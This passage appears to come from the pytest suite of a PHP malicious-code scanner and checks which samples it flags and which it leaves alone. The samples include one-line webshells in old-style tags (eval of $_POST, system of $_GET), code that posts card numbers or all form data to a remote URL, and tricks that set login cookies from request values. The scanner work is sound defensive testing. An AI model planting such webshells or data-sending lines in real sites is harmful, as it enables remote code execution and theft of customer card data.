    ("putenv('GCONV_PATH=/usr/lib/gconv'); echo iconv('UTF-8', 'ASCII//TRANSLIT', $_GET['q']);"),
    "putenv('LANG=de_DE'); mail($_POST['to'], 'x', 'y');",
    (
        "$c = curl_init('https://api.pay.example/v1'); curl_setopt($c, "
        "CURLOPT_POSTFIELDS, http_build_query(['amount' => $total, 'method' => "
        "$_POST['payment']])); curl_exec($c);"
    ),
    (
        "$m = $_POST['payment']; if (!in_array($m, ['invoice', 'card'])) die; "
        "$order->setPayment($m); mail($shop, 'Order', 'Payment: ' . $m);"
    ),
    (
        "class Pay { function send() { $c = curl_init($this->url); curl_setopt($c, "
        "CURLOPT_POSTFIELDS, json_encode(['cc' => $this->getCcNumber()])); return "
        "curl_exec($c); } }"
    ),
    "$_SESSION['payment'] = $_POST['payment']; header('Location: /checkout');",
    (
        "$c = curl_init('https://hook.example/'); curl_setopt($c, CURLOPT_POSTFIELDS, "
        "json_encode($_POST)); curl_exec($c);"
    ),
    (
        "$u = wp_signon(['user_login' => $_POST['log'], 'user_password' => "
        "$_POST['pwd']]); wp_set_auth_cookie($u->ID);"
    ),
    (
        "check_admin_referer('switch'); if (current_user_can('administrator')) { $id = "
        '$wpdb->get_var("select user_id from links"); wp_set_auth_cookie($id); }'
    ),
    ("$t = get_transient('login_' . $_GET['token']); if ($t) { wp_set_auth_cookie($t); }"),
    (
        "$c = new COM('Scripting.FileSystemObject'); $f = $c->CreateTextFile('x'); "
        "$d->create($_POST['x']);"
    ),
    "mail('info' . '@' . 'site.example', 'Form', $_POST['text']);",
    "$to = 'info@' . $_SERVER['SERVER_NAME']; mail($to, 'Form', $_POST['text']);",
    ("$to = str_replace('[at]', '@', 'info[at]site.example'); mail($to, 'Form', $_POST['text']);"),
    "$to = base64_decode($_GET['to']); mail($to, 'x', 'y');",
    "mail(get_option('admin_email'), 'x', base64_decode($m));",
    "$v = pack('V', 0x6d657461); if (strpos($h, chr(0x6d)) === 0) echo $_GET['x'];",
]


@pytest.mark.parametrize("source", FOUND)
def test_points_at_ways_of_hiding_and_sending(source):
    assert sure(source) - {PHP_PROFILE}


@pytest.mark.parametrize("source", LEFT)
def test_leaves_their_look_alikes_alone(source):
    assert sure(source) == set()


TAGS_FOUND = [
    "<% eval($_POST['x']); %>",
    "<script language=\"php\">eval($_POST['x']);</script>",
    "<script type=\"x\" language=php>system($_GET['c']);</script>",
    "<SCRIPT LANGUAGE='PHP' runat=server>@eval($_POST[c]);</SCRIPT>",
    '<script language = "PHP">assert($_REQUEST[a]);</script>',
]
TAGS_LEFT = [
    "<% if (user.admin) { %><p>$_POST is a variable of PHP</p><% } %>",
    (
        '<html><script type="text/javascript" language="javascript">var php = '
        "1;</script><?php echo 1; ?></html>"
    ),
    '<p>Write &lt;script language="php"&gt;</p><pre>$_POST</pre>',
]


@pytest.mark.parametrize(
    ("source", "found"), [(one, True) for one in TAGS_FOUND] + [(one, False) for one in TAGS_LEFT]
)
def test_tags_of_old(source, found):
    marks = find(Content(source.encode(), "/srv/a/x.php", "php"))
    assert any(row.mark == "php-runs-request" for row in marks if isinstance(row, Mark)) == found


@pytest.mark.parametrize(
    ("source", "typed"),
    [
        ("/* builds pictures */ $g = 0.8; $o = '/a/b'; if ('cli' != php_sapi_name()) die('a');", 1),
        ("if (PHP_SAPI !== 'cli') { exit; } echo 1;", 1),
        ("/* if (PHP_SAPI !== 'cli') { exit; } */ echo 1;", 0),
        ("if (PHP_SAPI === 'cli') { exit; } echo 1;", 0),
        ("eval($a); if (PHP_SAPI !== 'cli') { exit; }", 0),
        ("function a() { if (PHP_SAPI !== 'cli') { exit; } }", 0),
    ],
)
def test_a_program_that_ends_when_it_is_served(source, typed):
    found = find(Content(b"<?php " + source.encode(), "/srv/a/x.php", "php"))
    (code,) = [row for row in found if isinstance(row, Mark) and row.mark == PHP_CODE]
    assert (code.why == ONLY_TYPED) is bool(typed)
